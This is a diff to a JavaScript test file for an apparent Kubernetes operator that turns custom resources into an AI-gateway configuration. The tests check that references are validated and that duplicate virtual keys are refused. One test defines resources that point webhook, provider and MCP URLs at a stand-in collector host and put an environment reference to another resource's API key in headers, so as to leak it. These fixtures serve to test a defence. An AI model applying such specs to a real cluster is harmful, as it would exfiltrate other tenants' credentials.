@@ -171,10 +171,70 @@ test('examples/kubernetes/ (every kind) is accepted as a whole and renders every
   assert.deepEqual(Object.keys(d.input.managed).sort(), ['budgets', 'mcp_clients', 'plugins', 'providers', 'rate_limits', 'routing_rules', 'virtual_keys', 'webhooks']);
 });
 
-test('an env.VAR string in a CR cannot be resolved (there is no environment), and an empty Secret value is named', () => {
+test('an env. string in a CR is refused naming the field, and an empty Secret value is named', () => {
   const lookup = secrets({ 'default/s': { empty: '', v: 'sk-1' } });
   const envRef = cr('Provider', 'openai', { keys: [{ name: 'k', valueFrom: ref('s', 'v') }], network_config: { base_url: 'env.OPENAI_URL' } });
-  assert.equal(verdict([envRef], 'Provider default/openai', lookup)?.message, "spec.network_config.base_url: 'env.OPENAI_URL' cannot be resolved in Kubernetes: give the value, or a secretKeyRef where the field takes one");
+  const v = verdict([envRef], 'Provider default/openai', lookup);
+  assert.equal(v?.reason, 'InvalidSpec');
+  assert.match(v?.message ?? '', /^spec\.network_config\.base_url: 'env\.OPENAI_URL' is not allowed: a custom resource cannot name environment variables or entries of the rendered Secret/);
   const empty = cr('Provider', 'openai', { keys: [{ name: 'k', valueFrom: ref('s', 'empty') }] });
   assert.equal(verdict([empty], 'Provider default/openai', lookup)?.message, 'spec.keys[0].valueFrom: the Secret value it references is empty');
+});
+
+test("a resource cannot read another's Secret entries through env. in any field that resolves references", () => {
+  const lookup = secrets({ 'default/openai-creds': { 'api-key': 'sk-openai-123' }, 'default/w': { secret: 'whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw' } });
+  const openai = cr('Provider', 'openai', { keys: [{ name: 'primary', valueFrom: ref('openai-creds', 'api-key') }] });
+  const stolen = 'env.PROVIDER_DEFAULT_OPENAI_KEYS_0_VALUE';
+  const attempts = [
+    cr('Provider', 'anthropic', { keys: [{ name: 'k', valueFrom: ref('openai-creds', 'api-key') }], network_config: { base_url: 'https://collector.example.com', extra_headers: { 'x-leak': stolen } } }),
+    cr('Webhook', 'hook', { url: 'https://collector.example.com/h', events: ['async_job.completed'], secretFrom: ref('w', 'secret'), headers: { 'x-leak': stolen } }),
+    cr('MCPClient', 'tools', { connection_type: 'http', connection_string: 'https://collector.example.com/mcp', auth_type: 'headers', headers: { 'x-leak': stolen } }),
+    cr('VirtualKey', 'team-b', { valueFrom: ref('openai-creds', 'api-key'), description: stolen }),
+  ];
+  const fields = ['spec.network_config.extra_headers.x-leak', 'spec.headers.x-leak', 'spec.headers.x-leak', 'spec.description'];
+  const d = desiredState([openai, ...attempts], lookup);
+  attempts.forEach((a, i) => {
+    const v = d.verdicts.get(`${a.kind} default/${a.metadata.name}`);
+    assert.equal(v?.reason, 'InvalidSpec', `${a.kind}: ${v?.message}`);
+    assert.ok(v?.message.startsWith(`${fields[i]}: '${stolen}' is not allowed`), v?.message);
+  });
+  // Nothing of them is rendered: the document names the openai key only where openai uses it.
+  assert.deepEqual(d.input.managed, { providers: ['openai'] });
+  assert.equal(JSON.stringify(d.input.document).split(stolen).length, 2);
+  // Kinds whose section never resolves references keep such text as written.
+  const rule = cr('RoutingRule', 'r', { name: 'env.prod', targets: [{ provider: 'openai', weight: 1 }] });
+  assert.equal(desiredState([openai, rule], lookup).verdicts.get('RoutingRule default/r')?.accepted, true);
+});
+
+test('a virtual key with the value of a served one is refused naming it; the served one keeps serving', () => {
+  const lookup = secrets({ 'default/vk': { a: 'sk-bf-same-value-1', b: 'sk-bf-same-value-1' }, 'other/vk': { v: 'sk-bf-same-value-1' } });
+  const served = cr('VirtualKey', 'checkout', { valueFrom: ref('vk', 'a'), provider_configs: [{ provider: 'openai', allowed_models: ['*'], key_ids: ['*'] }] }, { created: '2025-01-01T00:00:00Z' });
+  // Named to sort first, as the newcomer that used to take the value over did.
+  const newcomer = cr('VirtualKey', 'aaa-copy', { valueFrom: ref('vk', 'b') }, { created: '2025-02-01T00:00:00Z' });
+  const elsewhere = cr('VirtualKey', 'aaa-other', { valueFrom: ref('vk', 'v') }, { namespace: 'other', created: '2025-03-01T00:00:00Z' });
+  const openai = cr('Provider', 'openai', { keys: [{ name: 'k', valueFrom: ref('vk', 'a') }] });
+  for (const order of [[newcomer, served, elsewhere, openai], [openai, elsewhere, served, newcomer]]) {
+    const d = desiredState(order, lookup);
+    assert.deepEqual(d.verdicts.get('VirtualKey default/checkout'), { accepted: true, reason: 'Valid', message: 'The spec is valid and included in the rendered configuration.' });
+    for (const ref of ['VirtualKey default/aaa-copy', 'VirtualKey other/aaa-other']) {
+      const v = d.verdicts.get(ref);
+      assert.equal(v?.reason, 'DuplicateValue');
+      assert.match(v?.message ?? '', /^spec\.valueFrom: the Secret value it references is already the value of VirtualKey default\/checkout, which keeps serving it/);
+      assert.ok(!v?.message.includes('sk-bf-same'), 'the message never holds the value');
+    }
+    assert.deepEqual(d.input.managed.virtual_keys, ['checkout']);
+    assert.deepEqual(d.unattributed, []);
+  }
+});
+
+test('created in the same second (or older but refused until now), the newcomer still does not evict the served one', () => {
+  const lookup = secrets({ 'default/vk': { a: 'sk-bf-same-value-2', b: 'sk-bf-same-value-2' } });
+  const served = cr('VirtualKey', 'checkout', { valueFrom: ref('vk', 'a') }, { created: '2025-02-01T00:00:00Z' });
+  served.status = { conditions: [{ type: 'Accepted', status: 'True', reason: 'Valid', message: '', lastTransitionTime: '2025-02-01T00:00:01Z' }] };
+  for (const created of ['2025-02-01T00:00:00Z', '2025-01-01T00:00:00Z']) {
+    const newcomer = cr('VirtualKey', 'aaa-copy', { valueFrom: ref('vk', 'b') }, { created });
+    const d = desiredState([newcomer, served], lookup);
+    assert.equal(d.verdicts.get('VirtualKey default/checkout')?.reason, 'Valid');
+    assert.equal(d.verdicts.get('VirtualKey default/aaa-copy')?.reason, 'DuplicateValue');
+  }
 });
